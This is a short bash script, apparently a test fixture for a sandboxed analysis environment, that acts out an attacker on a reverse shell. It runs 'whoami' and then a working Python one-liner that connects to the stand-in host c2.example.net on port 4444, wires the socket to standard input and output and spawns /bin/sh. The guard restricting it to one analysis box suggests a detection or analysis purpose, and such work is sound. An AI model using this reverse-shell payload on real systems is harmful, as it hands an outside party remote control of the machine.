#!/bin/bash
# SPDX-License-Identifier: MIT
# An operator on an interactive bash reverse shell (its commands arrive on
# its input): checks who it is, then upgrades to a full terminal with
# Python's pty module, itself wired to a fresh connection back.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 5 bash -i <<'CMDS' >/dev/null 2>&1
whoami
python3 -c 'import pty,socket,os;s=socket.socket();s.settimeout(2);s.connect(("c2.example.net",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
exit
CMDS
exit 0
